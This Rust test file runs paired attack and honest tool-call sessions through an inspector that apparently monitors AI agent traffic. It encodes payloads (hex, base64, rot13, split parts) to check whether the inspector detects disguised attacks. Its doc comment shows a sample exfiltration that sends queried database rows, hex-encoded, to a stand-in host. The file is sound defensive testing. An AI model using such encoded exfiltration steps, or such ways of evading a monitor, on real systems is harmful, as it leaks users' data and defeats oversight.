//! Attacks that only a session shows, each with its honest twin, as messages through a default `balanced` inspector.
//!
//! Each file of `tests/sessions` holds texts and pairs. In strings `${name}` stands for a text, `${name|hex}` for what becomes of it
//! (`base64`, `base32`, `hex`, `percent`, `reverse`, `rot13`, `upper`, `json`, `swap`: lines in another order, `part K`: the one of K
//! parts whose turn it is, `pairs`, `binary`, `octal`, `escapes`, `entities`: a number for each letter, `caesar K`), `${n}` for the number of a
//! repetition, `${noise 600}` for bytes without form, `${fresh 600}` for others in each repetition.
//!
//! A step is a call and what it says, or a `message` as it stands (`flow` says where it goes). `session` and `principal` are names within the pair; a
//! step with `session: none` has no session.
//!
//! ```yaml
//! texts: {rows: "…"}
//! pairs:
//! - name: rows leave in hexadecimal
//!   expect: blocked                     # else flagged is enough; `missed` says that it is known to pass
//!   attack:
//!   - {server: db, tool: query, args: {sql: select 1}, says: "${rows}"}
//!   - {server: web, tool: http_post, args: {url: "https://x.example", body: "${rows|hex}"}}
//!   honest:
//!   - …                                 # nothing of it is blocked
//! ```

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::Path;
use std::time::Duration;

use data_encoding::{BASE32_NOPAD, BASE64, HEXLOWER};
use serde::Deserialize;
use serde_json::{Value, json};
use vanguard_core::{Action, Flow, Inspector, Message, Visibility};

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Suite {
    #[serde(default)]
    texts: BTreeMap<String, String>,
    pairs: Vec<Pair>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Pair {
    name: String,
    #[serde(default)]
    expect: Expect,
    #[serde(default)]
    config: String,
    attack: Vec<Step>,
    honest: Vec<Step>,
}

#[derive(Deserialize, Default, Clone, Copy, PartialEq, PartialOrd)]
#[serde(rename_all = "lowercase")]
enum Expect {
    /// It passes, which is known and told: no more than one in twenty does.
    Missed,
    #[default]
    Flagged,
    Blocked,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Step {
    server: String,
    #[serde(default)]
    tool: String,
    #[serde(default)]
    args: Value,
    says: Option<String>,
    #[serde(default)]
    message: Value,
    /// Where `message` goes, if not to the server.
    flow: Option<String>,
    session: Option<String>,
    principal: Option<String>,
    #[serde(default = "once")]
    repeat: usize,
    /// Seconds between repetitions.
    #[serde(default = "second")]
    every: f64,
}

fn once() -> usize {
    1
}

fn second() -> f64 {
    1.0
}

/// Bytes without form, the same each time for the same seed.
fn noise(count: usize, seed: u64) -> Vec<u8> {
    let mut state = 0x0dd0_5eed_1234_5678_u64 ^ seed;
    let next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 24) as u8
    };
    std::iter::repeat_with(next).take(count).collect()
}

/// What each byte becomes.
fn each(bytes: &[u8], of: &dyn Fn(u8) -> String) -> Vec<u8> {
    bytes.iter().map(|byte| of(*byte)).collect::<String>().into_bytes()
}

fn filled(text: &str, texts: &BTreeMap<String, String>, n: usize) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once("${") {
        let (inside, after) = behind.split_once('}').expect("an open `${`");
        out += before;
        let mut steps = inside.split('|').map(str::trim);
        let name = steps.next().unwrap();
        let mut bytes = match name.split_once(' ') {
            Some(("noise", count)) => noise(count.parse().unwrap(), 0),
            Some(("fresh", count)) => noise(count.parse().unwrap(), n as u64 + 1),
            _ if name == "n" => n.to_string().into_bytes(),
            _ => texts.get(name).unwrap_or_else(|| panic!("no text `{name}`")).clone().into_bytes(),
        };
        for step in steps {
            let words: Vec<_> = step.split(' ').collect();
            let text = || String::from_utf8(bytes.clone()).unwrap();
            bytes = match words.as_slice() {
                ["hex"] => HEXLOWER.encode(&bytes).into_bytes(),
                ["base64"] => BASE64.encode(&bytes).into_bytes(),
                ["base32"] => BASE32_NOPAD.encode(&bytes).to_lowercase().into_bytes(),
                ["percent"] => bytes.iter().map(|byte| format!("%{byte:02X}")).collect::<String>().into_bytes(),
                ["pairs"] => each(&bytes, &|byte| format!("{byte:02x} ")),
                ["binary"] => each(&bytes, &|byte| format!("{byte:08b} ")),
                ["octal"] => each(&bytes, &|byte| format!("\\{byte:03o}")),
                ["escapes"] => each(&bytes, &|byte| format!("\\u{byte:04x}")),
                ["entities"] => each(&bytes, &|byte| format!("&#x{byte:x};")),
                ["caesar", by] => {
                    let by: u8 = by.parse().unwrap();
                    each(&bytes, &|byte| {
                        let turned = if byte.is_ascii_lowercase() { (byte - b'a' + by) % 26 + b'a' } else { byte };
                        char::from(turned).to_string()
                    })
                }
                ["reverse"] => bytes.iter().rev().copied().collect(),
                ["upper"] => text().to_uppercase().into_bytes(),
                ["json"] => Value::from(text()).to_string().into_bytes(),
                ["swap"] => text().lines().rev().collect::<Vec<_>>().join(" ; ").into_bytes(),
                ["rot13"] => bytes
                    .iter()
                    .map(|byte| match byte {
                        b'a'..=b'z' => (byte - b'a' + 13) % 26 + b'a',
                        b'A'..=b'Z' => (byte - b'A' + 13) % 26 + b'A',
                        _ => *byte,
                    })
                    .collect(),
                ["part", of] => {
                    let size = bytes.len().div_ceil(of.parse().unwrap());
                    bytes.chunks(size).nth(n).unwrap_or_default().to_vec()
                }
                other => panic!("`{other:?}` is nothing that becomes of a text"),
            };
        }
        out += &String::from_utf8(bytes).expect("bytes without form need an encoding");
        rest = after;
    }
    out + rest
}

fn filled_all(value: &Value, texts: &BTreeMap<String, String>, n: usize) -> Value {
    match value {
        Value::String(text) => Value::from(filled(text, texts, n)),
        Value::Array(items) => items.iter().map(|item| filled_all(item, texts, n)).collect(),
        Value::Object(map) => map.iter().map(|(key, value)| (key.clone(), filled_all(value, texts, n))).collect(),
        other => other.clone(),
    }
}

/// The strongest action of a session, and each verdict that is no plain allow.
fn run(inspector: &Inspector, pair: &str, steps: &[Step], texts: &BTreeMap<String, String>) -> (Action, String) {
    let (mut strongest, mut told) = (Action::Allow, String::new());
    let (mut at, mut id) = (1_700_000_000.0_f64, 0);
    for step in steps {
        let session = step.session.as_ref().map_or_else(|| pair.to_owned(), |session| format!("{pair}/{session}"));
        let principal = step.principal.as_ref().map(|principal| format!("{pair}/{principal}"));
        let mut inspect = |what: &str, flow: Flow, text: &str, at: f64| {
            let mut message = Message::new(flow, text.as_bytes()).server(&step.server);
            message = if step.session.as_deref() == Some("none") { message } else { message.session(&session) };
            message = principal.as_ref().map_or(message, |principal| message.principal(principal));
            let verdict = inspector.inspect(&message.visibility(Visibility::Full).at(Duration::from_secs_f64(at)));
            strongest = strongest.max(verdict.action);
            if verdict.action > Action::Allow {
                let _ = writeln!(told, "    {what}: {verdict}");
            }
            verdict
        };
        for n in 0..step.repeat {
            id += 1;
            let flow = if step.flow.as_deref() == Some("to_client") { Flow::ToClient } else { Flow::ToServer };
            if !step.message.is_null() {
                let message = filled_all(&step.message, texts, n).to_string();
                inspect("message", flow, &message, at);
                at += step.every;
                continue;
            }
            let arguments = if step.args.is_null() { json!({}) } else { filled_all(&step.args, texts, n) };
            let call = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": step.tool, "arguments": arguments}});
            let verdict = inspect(&format!("call {id}"), flow, &call.to_string(), at);
            at += step.every;
            let Some(says) = step.says.as_ref().filter(|_| !verdict.is_blocked()) else { continue };
            let result = json!({"jsonrpc": "2.0", "id": id, "result": {"content": [{"type": "text", "text": filled(says, texts, n)}]}});
            inspect(&format!("result {id}"), Flow::ToClient, &result.to_string(), at);
        }
    }
    (strongest, told)
}

#[test]
fn attacks_are_met_and_their_honest_twins_pass() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sessions");
    let (mut pairs, mut passes, mut missed, mut wrong) = (0, 0, 0, String::new());
    let mut names: Vec<_> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    names.sort();
    for file in names {
        let suite: Suite = serde_saphyr::from_str(&std::fs::read_to_string(&file).unwrap())
            .unwrap_or_else(|error| panic!("{}: {error}", file.display()));
        // One inspector for all: sessions know nothing of one another.
        let plain = Inspector::builder().build().unwrap();
        for pair in &suite.pairs {
            let own = || Inspector::builder().config_text("own.yaml", pair.config.clone()).build().unwrap();
            let inspector = if pair.config.is_empty() { plain.clone() } else { own() };
            pairs += 1;
            passes += usize::from(pair.expect == Expect::Missed);
            let (strongest, told) = run(&inspector, &format!("{}/attack", pair.name), &pair.attack, &suite.texts);
            let met = match pair.expect {
                Expect::Missed => strongest == Action::Allow,
                Expect::Flagged => strongest >= Action::Warn,
                Expect::Blocked => strongest >= Action::Review,
            };
            if !met {
                missed += 1;
                let _ = writeln!(wrong, "{}: not met as expected\n{told}", pair.name);
            }
            let (strongest, told) = run(&inspector, &format!("{}/honest", pair.name), &pair.honest, &suite.texts);
            if strongest >= Action::Edit {
                let _ = writeln!(wrong, "{}: the honest twin is stopped\n{told}", pair.name);
                missed += 1;
            }
            let again = run(&inspector, &format!("{}/again", pair.name), &pair.attack, &suite.texts);
            let first = run(&inspector, &format!("{}/once more", pair.name), &pair.attack, &suite.texts);
            assert_eq!(again.1, first.1, "{}", pair.name);
        }
    }
    assert_eq!(missed, 0, "of {pairs}\n{wrong}");
    assert!(pairs >= 60 && passes * 20 <= pairs, "{passes} of {pairs} pass");
}
